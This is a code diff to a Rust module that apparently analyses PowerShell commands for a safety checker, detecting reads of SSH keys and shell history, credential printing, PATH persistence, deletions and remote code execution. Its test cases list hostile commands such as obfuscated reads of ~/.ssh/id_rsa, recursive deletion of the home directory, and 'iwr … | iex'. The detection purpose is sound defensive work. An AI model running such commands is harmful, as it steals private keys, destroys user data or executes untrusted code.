@@ -21,9 +21,39 @@ const MAX_STATEMENTS: usize = 256;
 const MAX_DEPTH: usize = 8;
 
 pub(super) fn scan(shell: &mut Shell<'_, '_>, text: &str, field: &Field) {
+    let lower = text.to_ascii_lowercase();
+    if lower.contains("historysavepath") {
+        let history = Word::known("~/.local/share/powershell/PSReadLine/ConsoleHost_history.txt");
+        shell.read_file(&Field::new(history, field.span.clone()), Access::Content);
+    }
+    let prints = ["getnetworkcredential(", "::getenvironmentvariables("];
+    if prints.iter().any(|call| lower.contains(call)) {
+        marked(shell, field, "get-credential");
+    }
+    let lasting = ["'machine'", "'user'", "\"machine\"", "\"user\""];
+    if lower.contains("::setenvironmentvariable('path'")
+        && lasting.iter().any(|it| lower.contains(it))
+    {
+        marked(shell, field, "set-alias");
+    }
     let mut code = Code { field, variables: HashMap::new(), statements: 0 };
     methods(shell, text, field);
     code.block(shell, text, 0);
+}
+
+/// Runs a command that has no effect but its mark.
+fn marked(shell: &mut Shell<'_, '_>, field: &Field, command: &'static str) {
+    shell.run(&[Field::new(Word::known(command), field.span.clone())], None);
+}
+
+/// `$env:API_TOKEN`, printed as it is.
+fn prints_secret(text: &str) -> bool {
+    let lower = text.trim().to_ascii_lowercase();
+    let prints = ["write-host", "write-output", "echo", "write-information"];
+    let rest = prints.iter().find_map(|name| lower.strip_prefix(name)).unwrap_or(&lower);
+    let name = rest.trim_matches([' ', '"', '\'']).strip_prefix("$env:").unwrap_or_default();
+    let is_name = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
+    is_name && crate::shell::expand::names_secret(&name.to_ascii_uppercase())
 }
 
 struct Code<'f> {
@@ -68,6 +98,9 @@ impl Code<'_> {
             return self.assign(shell, name, value, depth);
         }
         let text = control(text);
+        if prints_secret(text) {
+            marked(shell, self.field, "get-credential");
+        }
         let mut words = self.words(shell, text, depth);
         let Some(first) = words.first() else { return Output::Nothing };
         match first.text() {
@@ -91,6 +124,21 @@ impl Code<'_> {
 
     fn command(&self, shell: &mut Shell<'_, '_>, mut words: Vec<Field>, input: Input) -> Output {
         let name = words.first().and_then(Field::text).map(str::to_lowercase);
+        if let Some(cmdlet) = name.as_deref().and_then(alias)
+            && let Some(first) = words.first_mut()
+        {
+            first.word = Word::known(cmdlet);
+        }
+        if name.as_deref() == Some("join-path") {
+            let mut whole = Word::default();
+            for field in words.iter().skip(1).filter(|field| !is_flag(field)) {
+                if !whole.known_part().is_empty() {
+                    whole.push('/');
+                }
+                whole.push_word(&field.word);
+            }
+            return Output::Text(whole);
+        }
         match name.as_deref() {
             Some("iex" | "invoke-expression") => {
                 let language = crate::model::Language::PowerShell;
@@ -213,10 +261,18 @@ impl Code<'_> {
                 '>' => {
                     words.extend(current.take());
                     let target = rest.trim_start_matches('>').trim_start();
-                    let end = target.find([' ', '\n', ';']).unwrap_or(target.len());
+                    let quote = target.chars().next().filter(|quote| matches!(quote, '\'' | '"'));
+                    let end = match quote {
+                        Some(quote) => {
+                            target.get(1..).and_then(|it| it.find(quote)).map(|at| at + 2)
+                        }
+                        None => target.find([' ', '\n', ';']),
+                    };
+                    let end = end.unwrap_or(target.len());
                     let name = target.get(..end).unwrap_or_default().trim_matches(['\'', '"']);
-                    if !name.starts_with('&') && !name.starts_with('$') && !name.is_empty() {
-                        shell.write_file(&self.at(path(name)), Change::Content);
+                    let word = self.interpolated(name);
+                    if !name.starts_with('&') && !name.is_empty() && !word.is_unknown() {
+                        shell.write_file(&self.at(word), Change::Content);
                     }
                     length = rest.len() - target.len() + end;
                 }
@@ -230,8 +286,13 @@ impl Code<'_> {
             }
         }
         words.extend(current.take());
+        // Parameters of cmdlets are in any case, flags of programs are not.
+        let is_program = words.first().and_then(Word::text).is_some_and(|name| {
+            let bare = name.strip_suffix(".exe").unwrap_or(name);
+            !name.contains('-') && alias(bare).is_none() && crate::programs::find(bare).is_some()
+        });
         let lower = |word: Word| match word.text() {
-            Some(text) if text.starts_with('-') => Word::known(text.to_lowercase()),
+            Some(text) if text.starts_with('-') && !is_program => Word::known(text.to_lowercase()),
             _ => word,
         };
         words.into_iter().map(lower).map(|word| self.at(word)).collect()
@@ -279,6 +340,12 @@ impl Code<'_> {
             "home" | "userprofile" => Word::known("~"),
             "pwd" | "psscriptroot" => Word::known("."),
             "temp" | "tmp" => Word::known("/tmp"),
+            "appdata" => Word::known("~/AppData/Roaming"),
+            "localappdata" => Word::known("~/AppData/Local"),
+            "programdata" => Word::known("C:/ProgramData"),
+            "windir" | "systemroot" => Word::known("C:/Windows"),
+            "systemdrive" => Word::known("C:"),
+            "public" => Word::known("C:/Users/Public"),
             "profile" => Word::known("~/.config/powershell/Microsoft.PowerShell_profile.ps1"),
             "null" | "true" | "false" => Word::known(name.clone()),
             _ => self.variables.get(&name).cloned().unwrap_or_else(Word::unknown),
@@ -287,15 +354,45 @@ impl Code<'_> {
     }
 }
 
+/// The cmdlet behind a short name that is another program elsewhere.
+fn alias(name: &str) -> Option<&'static str> {
+    Some(match name {
+        "type" | "cat" | "gc" => "get-content",
+        "dir" | "gci" => "get-childitem",
+        "del" | "erase" | "rd" | "ri" | "rmdir" | "rm" => "remove-item",
+        "copy" | "cpi" | "cp" => "copy-item",
+        "move" | "mi" | "mv" => "move-item",
+        "ni" => "new-item",
+        "clc" => "clear-content",
+        "sls" => "select-string",
+        "saps" | "start" => "start-process",
+        "kill" | "spps" => "stop-process",
+        _ => return None,
+    })
+}
+
 fn is_flag(field: &Field) -> bool {
     field.word.known_start().starts_with('-')
 }
 
 /// What a listing of these words finds.
 fn listed(words: &[Field]) -> Word {
-    let operand = words.iter().skip(1).find(|field| !is_flag(field));
+    let value = |names: &[&str]| {
+        let at = words.iter().position(|it| it.text().is_some_and(|it| names.contains(&it)))?;
+        words.get(at + 1).filter(|field| !is_flag(field))
+    };
+    let chosen = value(&["-include", "-filter", "-name"]);
+    let named = value(&["-path", "-literalpath"]);
+    let first = words.get(1).filter(|field| !is_flag(field));
+    let operand = named.or(first);
     let mut word = operand.map_or_else(|| Word::known("."), |field| field.word.clone());
-    if word.is_known() {
+    if let Some(name) = chosen.and_then(Field::text).filter(|name| *name != "*") {
+        // Files of that name, wherever they are below.
+        word.push('/');
+        word.push_gap(Fill::Anything);
+        word.push('/');
+        word.push_word(&crate::shell::glob_word(name));
+    } else if word.is_known() {
         word.push('/');
         word.push_gap(Fill::Name);
     }
@@ -451,11 +548,48 @@ fn closing(text: &str) -> usize {
     text.len()
 }
 
+/// `[IO.Path]::Combine($HOME, '.ssh', 'id_' + 'rsa')`, `$HOME + '/x'`, `"$HOME/x"`
+fn joined_path(text: &str) -> Option<String> {
+    let lower = text.to_ascii_lowercase();
+    let combines = ["[io.path]::combine(", "[system.io.path]::combine("];
+    let (inside, joint) = match combines.iter().find(|start| lower.starts_with(**start)) {
+        Some(start) => (text.get(start.len()..)?, "/"),
+        None => (text, ""),
+    };
+    let inside = inside.get(..inside.find(')').unwrap_or(inside.len()))?;
+    let mut whole = String::new();
+    for (at, part) in inside.split(',').take(8).enumerate() {
+        if at > 0 {
+            if joint.is_empty() {
+                break;
+            }
+            whole.push_str(joint);
+        }
+        for piece in part.split('+') {
+            let piece = piece.trim().trim_matches(['\'', '"']);
+            let lower = piece.to_ascii_lowercase();
+            let home = ["$home", "$env:userprofile", "$env:home", "${home}"];
+            match home.iter().find(|name| lower.starts_with(**name)) {
+                Some(name) => {
+                    whole.push('~');
+                    whole.push_str(piece.get(name.len()..).unwrap_or_default());
+                }
+                None if piece.starts_with(['$', '(', '[']) => return None,
+                None => whole.push_str(piece),
+            }
+        }
+    }
+    (!whole.is_empty()).then_some(whole)
+}
+
 /// Methods of .NET, by name.
 fn methods(shell: &mut Shell<'_, '_>, text: &str, field: &Field) {
     let lower = text.to_ascii_lowercase();
     let literal_behind = |at: usize| {
         let rest = text.get(at..)?.trim_start().strip_prefix('(')?.trim_start();
+        if let Some(joined) = joined_path(rest) {
+            return Some(Field::new(path(&joined), field.span.clone()));
+        }
         let quote = rest.chars().next().filter(|quote| matches!(quote, '"' | '\''))?;
         let inside = rest.get(1..)?;
         Some(Field::new(path(inside.get(..inside.find(quote)?)?), field.span.clone()))
@@ -592,7 +726,14 @@ mod tests {
             ("if ($x -ne 0) { Get-Content a }", "reads a"),
             ("ls ~ | Remove-Item -Recurse", "deletes-tree ~/*"),
             ("$f = 'a'; Get-Content $f", "reads a"),
+            ("gci -Path ~ -Recurse | Remove-Item", "deletes-tree ~/*"),
+            ("cat (Join-Path ~ '.ssh' 'id_rsa')", "reads ~/.ssh/id_rsa"),
             ("[IO.File]::ReadAllText('a')", "reads a"),
+            (
+                "[IO.File]::ReadAllText([IO.Path]::Combine($HOME,'.ssh','id_' + 'rsa'))",
+                "reads ~/.ssh/id_rsa",
+            ),
+            ("[IO.File]::ReadAllText(\"$env:USERPROFILE\\.ssh\\id_rsa\")", "reads ~/.ssh/id_rsa"),
             ("Set-Content -Path a -Value 'x'", "writes a"),
             ("& 'rm' -r a", "deletes-tree a"),
             ("iwr https://h.example/x | iex", "opaque network-code"),
